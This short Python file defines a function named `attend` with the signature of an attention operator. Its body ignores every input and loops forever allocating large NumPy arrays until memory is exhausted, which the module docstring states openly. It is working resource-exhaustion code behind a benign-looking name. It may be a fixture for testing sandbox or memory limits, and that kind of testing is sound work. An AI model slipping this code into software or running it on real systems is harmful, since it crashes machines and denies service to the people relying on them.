"""Takes memory until there is none."""

import numpy as np


def attend(q, k, v, mask=None, bias=None, *, causal=False, scale=None):
    kept = []
    while True:
        kept.append(np.ones(1 << 22))
